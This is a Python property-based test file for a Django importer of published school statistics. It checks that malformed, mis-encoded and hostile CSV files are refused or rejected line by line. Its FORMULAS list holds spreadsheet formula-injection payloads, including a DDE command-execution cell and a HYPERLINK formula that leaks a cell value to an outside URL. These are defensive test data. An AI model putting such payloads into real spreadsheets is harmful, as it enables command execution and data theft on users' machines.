"""Hostile published-figures files: property-based tests of the EES importer.

Whatever bytes arrive, the importer either refuses the whole file with a PublishedFileError
(nothing changed) or reads it line by line into valid rows, skipped rows and rejections. It
never raises anything else, and never yields or stores a figure that is not a valid number
for its column: formula-like cells (``=cmd|' /C calc'!A0``, ``+1``, ``@SUM(1)``, ``-1)``)
reject their line.
"""

import codecs
import csv
import io
import re
from decimal import Context, Decimal

import pytest
from django.db import transaction
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from analytics.models import PublishedFigures
from analytics.published_import import (
    INDICATORS,
    KEY_COLUMNS,
    FiguresRow,
    Measure,
    PublishedFileError,
    PublishedReading,
    published_figures_import,
    read_published,
)
from tests.institutions.factories import SchoolFactory

COUNTS = {i.column: i for i in INDICATORS if i.measure is Measure.COUNT}
PERCENTAGES = {i.column for i in INDICATORS if i.measure is Measure.PERCENTAGE}
PER_100 = {i.column for i in INDICATORS if i.measure is Measure.PER_100}
# Scores (attainment, scaled and progress scores) have a range each; progress scores are
# the only figures that may be negative.
SCORES = {i.column: i for i in INDICATORS if i.measure is Measure.SCORE}
HEADER = [*KEY_COLUMNS, "school_name", *(i.column for i in INDICATORS), "notes"]
ABSENCE_HEADER = [*KEY_COLUMNS, "school_name", *(i.column for i in INDICATORS[:6])]
SUSPENSIONS_HEADER = [*KEY_COLUMNS, "school_name", *(i.column for i in INDICATORS[6:])]
URNS = ["100001", "100002", "100003", "199999"]  # the last is not in the register
FIELDS = [i.field for i in INDICATORS]
MARKERS = {"z", "c", "x", "u", "low", "k", ":", "supp", "na", ""}

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "+SUM(A1:A9)",
    "-1)",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://example.test/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1",
]
# Values that have broken number parsers before.
NASTY = [
    " ",
    "SUPP",
    "low",
    "Z",
    "\x00",
    "1\x00",
    "1\n2",
    '"',
    ",",
    "-1",
    "-0",
    "-0.0",
    "1e3",
    "1E-2",
    "NaN",
    "nan",
    "Infinity",
    "-inf",
    "0x10",
    "1_000",
    "1,000",
    "1 000",
    "٣",  # Arabic-Indic digit
    "１２",  # full-width digits
    "²",
    "½",
    "100.001",
    "100.005",
    "99.995",
    "100",
    "0",
    ".5",
    "5.",
    ".",
    "..5",
    "5..",
    "1.2.3",
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "99999.99",
    "99999.995",
    "9" * 39,
    "9" * 41,
    "0." + "0" * 37 + "1",
    "\udcff",  # a lone surrogate (written with surrogateescape: an undecodable byte)
    "\ufeff1",
    "1\u2028",
]
SPLICED = [b"\x81", b"\x8d", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b'"', b"\r", b"\n", b","]
SPLICED += [b"\xc3", b"\xe9", b"\xed\xa0\x80", b"\x00\x00\x00"]

FAST = settings(
    max_examples=120,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

cell = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(NASTY),
    st.text(max_size=20),
    st.text(alphabet="0123456789.-+eE ,", max_size=12),
)


def good_row(**overrides: str) -> dict[str, str]:
    row = {
        "time_period": "202425",
        "time_identifier": "Academic year",
        "geographic_level": "School",
        "school_urn": "100001",
        "school_name": "École Saint-Jean’s",
        "sess_possible": "65000",
        "sess_overall": "3250",
        "sess_overall_percent": "5.00",
        "enrolments": "210",
        "enrolments_pa_10_exact": "30",
        "enrolments_pa_10_exact_percent": "14.29",
        "headcount": "205",
        "susp": "4",
        "susp_rate": "1.95",
        "perm_excl": "c",
        "perm_excl_rate": "c",
        "notes": "",
    }
    row.update(overrides)
    return row


GOOD = good_row()


@st.composite
def rows(draw) -> dict[str, str]:
    """A row of good values, then up to three of them replaced by hostile ones."""
    row = dict(GOOD)
    row["school_urn"] = draw(st.sampled_from(URNS))
    row["time_period"] = draw(st.sampled_from(["202324", "202425"]))
    row["geographic_level"] = draw(st.sampled_from(["School", "School", "National", "Regional"]))
    row["time_identifier"] = draw(st.sampled_from(["Academic year"] * 3 + ["Autumn term"]))
    for column in draw(st.lists(st.sampled_from(HEADER), max_size=3)):
        row[column] = draw(cell)
    return row


def csv_text(rows: list[dict[str, str]], header: list[str] = HEADER) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([row.get(column, "") for column in header] for row in rows)
    return out.getvalue()


def encode(text: str, encoding: str) -> bytes:
    if encoding.startswith(("utf-16", "utf-32")):
        return text.encode(encoding, errors="surrogatepass")
    if encoding.startswith("utf-8"):
        return text.encode(encoding, errors="surrogateescape")
    return text.encode(encoding, errors="replace")


@st.composite
def published_files(draw, *, damaged: bool = True) -> bytes:
    """A file of hostile rows, in some encoding (or several), then (when ``damaged``)
    perhaps cut short and with stray bytes spliced in."""
    header = draw(st.sampled_from([HEADER, ABSENCE_HEADER, SUSPENSIONS_HEADER]))
    lines = csv_text(draw(st.lists(rows(), min_size=1, max_size=6)), header).split("\r\n")
    encodings = ["utf-8", "utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "mixed"]
    encoding = draw(st.sampled_from(encodings if damaged else ["utf-8", "cp1252"]))
    if encoding == "mixed":
        data = b"\r\n".join(
            encode(line, draw(st.sampled_from(["utf-8", "cp1252"]))) for line in lines
        )
    else:
        data = encode("\r\n".join(lines), encoding)
    if not damaged:
        return data
    body_starts = draw(st.sampled_from([0, data.find(b"\n") + 1]))
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(body_starts, len(data)))
        data = data[:at] + draw(st.sampled_from(SPLICED)) + data[at:]
    if draw(st.integers(0, 3)) == 0:
        data = data[: draw(st.integers(body_starts, len(data)))]
    return data


def read(data: bytes) -> PublishedReading | None:
    """What the reader makes of ``data``, or None when it refuses the file."""
    try:
        return read_published(io.BytesIO(data))
    except PublishedFileError:
        return None


def printable(text: str) -> bool:
    """Safe to print on a terminal: no control characters (escape sequences)."""
    return storable(text) and not re.search("[\x00-\x1f\x7f-\x9f]", text)


def storable(text: str) -> bool:
    """PostgreSQL text takes it: no NUL, valid Unicode (no lone surrogates)."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return "\x00" not in text


# --- An oracle of valid values, written apart from the importer ----------------------------


def valid_value(column: str, text: str) -> tuple[bool, int | Decimal | None]:
    """(whether ``text`` is a valid value of ``column``, the value it stands for)."""
    text = text.strip()
    if text.lower() in MARKERS:
        return (True, None)
    if column in COUNTS:
        if re.fullmatch(r"[0-9]{1,40}", text, re.ASCII) and int(text) <= COUNTS[column].largest:
            return (True, int(text))
        return (False, None)
    scores = SCORES.get(column)
    sign = "-?" if scores is not None else ""  # a score (Progress 8: -0.45) may be negative
    if not re.fullmatch(sign + r"[0-9]*(\.[0-9]*)?", text, re.ASCII) or not re.search(
        "[0-9]", text
    ):
        return (False, None)
    if len(text) > 40:
        return (False, None)
    # Enough digits for any 40-character number (the default 28 cannot quantize 39 nines).
    value = Decimal(text).quantize(
        Decimal("0.01"), rounding="ROUND_HALF_UP", context=Context(prec=100)
    )
    if scores is not None:
        valid = scores.smallest <= value <= scores.largest
        return (valid, value if valid else None)
    limit = Decimal(100) if column in PERCENTAGES else Decimal("99999.99")
    return (value <= limit, value if value <= limit else None)


def assert_valid_figure(field: str, value) -> None:
    [indicator] = [i for i in INDICATORS if i.field == field]
    if value is None:
        return
    if indicator.measure is Measure.COUNT:
        assert type(value) is int, (field, value)
        assert 0 <= value <= indicator.largest, (field, value)
    else:
        assert isinstance(value, Decimal) and value.is_finite(), (field, value)
        assert value == value.quantize(Decimal("0.01")), (field, value)
        assert indicator.smallest <= value <= indicator.largest, (field, value)
        if indicator.measure is not Measure.SCORE:
            assert value >= 0, (field, value)


def assert_sound(reading: PublishedReading | None) -> None:
    if reading is None:
        return
    keys = set()
    for row in reading.rows:
        assert type(row) is FiguresRow
        assert row.urn is None or re.fullmatch(r"[0-9]{6}", row.urn, re.ASCII), row
        assert re.fullmatch(r"[0-9]{6}", row.time_period, re.ASCII), row
        assert int(row.time_period[4:]) == (int(row.time_period[:4]) + 1) % 100
        assert set(row.values) == set(reading.fields)
        for field, value in row.values.items():
            assert_valid_figure(field, value)
        keys.add((row.urn, row.time_period))
    assert len(keys) == len(reading.rows), "a school and year was kept twice"
    for rejection in reading.rejected:
        assert printable(rejection.reason) and printable(rejection.urn), rejection
        assert rejection.line >= 2
    for reason in reading.skipped:
        assert printable(reason), reason
    accepted = len(reading.rows) + len(reading.duplicates)
    assert accepted + len(reading.rejected) + sum(reading.skipped.values()) == reading.rows_read


# --- The reader (no database) -----------------------------------------------------------------


@FAST
@given(st.binary(max_size=3000))
def test_random_bytes_are_refused_or_read_never_crash(data):
    assert_sound(read(data))


@FAST
@given(st.binary(max_size=2000))
def test_random_bytes_after_a_real_header_are_refused_or_read(body):
    assert_sound(read(csv_text([]).encode() + body))


# The census's file names the school by ``urn``; the performance files break each school
# down (``breakdown_topic``, ``sex``...), and only the Total line is the school's.
LEVEL_1_HEADER = [
    "time_period",
    "time_identifier",
    "geographic_level",
    "urn",
    "breakdown_topic",
    "sex",
    "headcount of pupils",
    "progress8_average",
    "avg_read_scaled_score",
]


@FAST
@given(
    st.lists(
        st.fixed_dictionaries(
            {
                "time_period": st.sampled_from(["202425", "2024/25"]),
                "time_identifier": st.just("Academic year"),
                "geographic_level": st.sampled_from(["School", "National"]),
                "urn": st.sampled_from([*URNS, "=1+1", ""]),
                "breakdown_topic": st.one_of(st.sampled_from(["Total", "total", "Sex", ""]), cell),
                "sex": st.one_of(st.sampled_from(["Total", "Boys"]), cell),
                "headcount of pupils": cell,
                "progress8_average": st.one_of(st.sampled_from(["-0.45", "0.3", "-99.99"]), cell),
                "avg_read_scaled_score": st.one_of(st.sampled_from(["80", "120", "79"]), cell),
            }
        ),
        max_size=6,
    )
)
def test_hostile_breakdowns_and_scores_are_skipped_rejected_or_kept_as_valid(hostile):
    reading = read(encode(csv_text(hostile, header=LEVEL_1_HEADER), "utf-8"))
    assert_sound(reading)
    for row in reading.rows:
        source = next(
            line
            for line in hostile
            if line["urn"].strip() == (row.urn or line["urn"].strip())
            and line["breakdown_topic"].strip().lower() == "total"
            and line["sex"].strip().lower() == "total"
        )
        assert source is not None
    skipped = sum(
        1
        for line in hostile
        if line["breakdown_topic"].strip().lower() != "total"
        or line["sex"].strip().lower() != "total"
    )
    assert (
        sum(
            n
            for reason, n in reading.skipped.items()
            if reason.startswith(("breakdown_topic", "sex"))
        )
        == skipped
    )


@settings(FAST, max_examples=300)
@given(published_files())
def test_hostile_files_never_crash_and_never_yield_an_invalid_figure(data):
    reading = read(data)
    event("refused" if reading is None else "read")
    assert_sound(reading)


@FAST
@given(st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "utf-32"]), st.lists(rows()))
def test_utf16_and_utf32_files_are_refused_as_a_whole(encoding, hostile_rows):
    data = encode(csv_text([good_row(), *hostile_rows]), encoding)
    assert read(data) is None


@settings(FAST, max_examples=300)
@given(st.sampled_from([i.column for i in INDICATORS]), cell)
def test_a_figure_is_kept_only_when_it_is_a_valid_number(column, value):
    data = encode(csv_text([good_row(**{column: value}), good_row(school_urn="100002")]), "utf-8")
    reading = read(data)
    assert_sound(reading)
    valid, expected = valid_value(column, value)
    event("valid" if valid else "rejected")
    kept = {row.urn: row for row in reading.rows}
    assert "100002" in kept
    [indicator] = [i for i in INDICATORS if i.column == column]
    if valid:
        assert kept["100001"].values[indicator.field] == expected
        assert reading.rejected == []
    else:
        assert "100001" not in kept
        [rejection] = reading.rejected
        assert (rejection.line, rejection.urn) == (2, "100001")
        assert rejection.reason.startswith(f"{column} “")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", [i.column for i in INDICATORS])
def test_formula_like_cells_reject_their_line(formula, column):
    reading = read(encode(csv_text([good_row(**{column: formula})]), "utf-8"))
    assert reading.rows == []
    [rejection] = reading.rejected
    assert "is not a number" in rejection.reason or "is not a whole number" in rejection.reason


@FAST
@given(st.lists(rows(), min_size=1, max_size=4), st.data())
def test_mixed_encodings_reject_at_most_the_lines_whose_figures_are_damaged(hostile, data):
    # A UTF-8 file with cp1252 lines (names with é and curly apostrophes) reads as UTF-8: the
    # cp1252 bytes are in a column matmis does not read, so every good line is kept.
    good = [good_row(school_urn=urn, time_period="202021") for urn in URNS[:3]]
    lines = csv_text([*good, *hostile]).split("\r\n")
    encoded = [encode(line, data.draw(st.sampled_from(["utf-8", "cp1252"]))) for line in lines]
    reading = read(b"\r\n".join(encoded))
    assert_sound(reading)
    kept = {(row.urn, row.time_period) for row in reading.rows}
    assert {(urn, "202021") for urn in URNS[:3]} <= kept


def test_nul_bytes_reject_the_line_of_a_figure_and_are_ignored_elsewhere():
    data = csv_text(
        [
            good_row(school_urn="100001", susp="4\x00"),
            good_row(school_urn="100002", school_name="Oak\x00School"),
        ]
    ).encode()
    reading = read(data)
    assert [row.urn for row in reading.rows] == ["100002"]
    [rejection] = reading.rejected
    assert rejection.reason == "susp “4\ufffd” is not a whole number"
    with pytest.raises(PublishedFileError, match="binary"):
        read_published(io.BytesIO(b"time_period,\x00susp\n" + data))


def test_terminal_escapes_are_not_repeated_in_reasons():
    escape = "\x1b[2J\x9b31m"
    reading = read(
        csv_text(
            [
                good_row(school_urn="100001", susp=escape),
                good_row(school_urn=escape, time_identifier=escape),
            ]
        ).encode()
    )
    [rejection] = reading.rejected
    assert rejection.reason == "susp “\ufffd[2J\ufffd31m” is not a whole number"
    assert reading.skipped == {"time_identifier “\ufffd[2J\ufffd31m”": 1}


def test_truncated_rows_reject_their_line_only():
    text = csv_text([good_row(school_urn="100001"), good_row(school_urn="100002")])
    lines = text.split("\r\n")
    lines[1] = lines[1][: len(lines[1]) // 2]
    reading = read("\r\n".join(lines).encode())
    assert [row.urn for row in reading.rows] == ["100002"]
    assert "fields but the header has" in reading.rejected[0].reason


def test_a_one_megabyte_field_refuses_the_file_with_a_clear_message():
    data = csv_text([good_row(school_urn="100001"), good_row(notes="A" * 1_000_000)]).encode()
    with pytest.raises(PublishedFileError, match="Line 3 cannot be read as CSV"):
        read_published(io.BytesIO(data))


def test_a_field_just_under_the_csv_limit_rejects_its_line_or_is_ignored():
    big = "9" * 100_000
    reading = read(
        csv_text(
            [
                good_row(school_urn="100001", susp=big),
                good_row(school_urn="100002", notes=big),
                good_row(school_urn="100003", school_name=big),
            ]
        ).encode()
    )
    assert [row.urn for row in reading.rows] == ["100002", "100003"]
    [rejection] = reading.rejected
    assert rejection.reason == f"susp “{'9' * 39}…” is not a number"


def test_a_line_hidden_in_an_oversized_quoted_value_is_never_read_as_a_row():
    smuggled = csv_text([good_row(school_urn="100099")]).split("\r\n")[1]
    notes = "A" * 200_000 + "\r\n" + smuggled
    data = csv_text([good_row(notes=notes), good_row(school_urn="100002")]).encode()
    assert read(data) is None


# --- The write path (database) ----------------------------------------------------------------


def run_and_roll_back(data: bytes) -> tuple[object, list[dict]]:
    """Import ``data`` (with schools 100001-100003 in the register) in a savepoint; return the
    result (None: refused) and the rows stored, then undo it all."""
    with transaction.atomic():
        for urn in URNS[:3]:
            SchoolFactory(urn=urn)
        try:
            result = published_figures_import(stream=io.BytesIO(data))
        except PublishedFileError:
            result = None
        stored = list(PublishedFigures.objects.values("school__urn", "time_period", *FIELDS))
        transaction.set_rollback(True)
    return result, stored


@pytest.mark.django_db
@settings(
    FAST,
    max_examples=60,
    suppress_health_check=[*FAST.suppress_health_check, HealthCheck.function_scoped_fixture],
)
@given(data=st.one_of(published_files(damaged=False), published_files()))
def test_importing_hostile_files_stores_only_what_the_reader_accepts(data):
    reading = read(data)
    result, stored = run_and_roll_back(data)
    if reading is None:
        event("refused")
        assert result is None
        assert stored == []
        return
    known = [row for row in reading.rows if row.urn in (None, *URNS[:3])]
    event("rows stored" if known else "nothing stored")
    assert result.schools_written + result.national_rows == len(known) == len(stored)
    assert result.unknown_schools == len(reading.rows) - len(known)
    assert result.rejected == reading.rejected
    expected = {(row.urn, row.time_period): {f: row.values.get(f) for f in FIELDS} for row in known}
    assert {(s.pop("school__urn"), s.pop("time_period")): s for s in stored} == expected
    for row in stored:
        for field, value in row.items():
            assert_valid_figure(field, value)


@pytest.mark.django_db
def test_a_file_refused_midway_changes_nothing():
    SchoolFactory(urn="100001")
    published_figures_import(stream=io.BytesIO(csv_text([good_row()]).encode()))
    before = list(PublishedFigures.objects.values())
    data = csv_text([good_row(susp="7"), good_row(notes="A" * 1_000_000)]).encode()
    with pytest.raises(PublishedFileError):
        published_figures_import(stream=io.BytesIO(data))
    assert list(PublishedFigures.objects.values()) == before


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_like_cells_are_never_stored(formula):
    SchoolFactory(urn="100001")
    row = {i.column: formula for i in INDICATORS}
    result = published_figures_import(
        stream=io.BytesIO(csv_text([good_row(**row), good_row(school_urn="100002")]).encode())
    )
    assert len(result.rejected) == 1
    assert not PublishedFigures.objects.exists()


def test_utf16_without_a_byte_order_mark_is_refused():
    for encoding in ("utf-16-le", "utf-16-be"):
        with pytest.raises(PublishedFileError, match="UTF-16"):
            read_published(io.BytesIO(csv_text([good_row()]).encode(encoding)))
    with pytest.raises(PublishedFileError, match="UTF-16"):
        read_published(io.BytesIO(codecs.BOM_UTF16_LE + csv_text([]).encode("utf-16-le")))
